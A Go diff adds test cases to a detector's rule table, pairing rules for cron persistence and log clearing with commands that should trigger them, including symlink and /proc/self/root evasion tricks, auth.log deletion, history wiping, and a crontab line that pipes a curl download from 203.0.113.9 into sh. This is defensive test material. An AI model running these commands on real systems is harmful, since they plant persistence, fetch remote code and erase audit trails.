@@ -71,6 +71,12 @@ var builtin = map[string][]deed{
 		{rule: "process-log-clearing", where: inPlain, do: ": >/var/log/auth.log"},
 		{rule: "process-history-tampering", do: "echo x >>/root/.bash_history; rm /root/.bash_history"},
 	},
+	"names that lead elsewhere": {
+		{rule: "persistence-cron-file", do: "ln -s /etc/cron.d /tmp/live-l; mkdir /tmp/live-l/led; rm /tmp/live-l", not: "ln -s /etc/opt /tmp/live-l; mkdir /tmp/live-l/led; rm /tmp/live-l"},
+		{rule: "persistence-cron-file", do: "mkdir /proc/self/root/etc/cron.d/rooted"},
+		{rule: "persistence-cron-file", where: inPlain, do: "/bin/ln -s /etc /tmp/l; /bin/mkdir -p /tmp/l/cron.d/led; /bin/rm /tmp/l"},
+		{rule: "process-log-clearing", where: inPlain, do: "echo x >/var/log/auth.log; /bin/ln -s /var/log /tmp/l2; /bin/rm /tmp/l2/auth.log; /bin/rm /tmp/l2"},
+	},
 	"persistence": {
 		{rule: "persistence-cron-file", do: "echo x >/etc/cron.d/live", not: "cat /etc/cron.d/live >/dev/null"},
 		{rule: "persistence-crontab-command", do: "/bin/sh -c '(echo \"* * * * * curl http://203.0.113.9/x|sh\") | /opt/deed/crontab -'"},
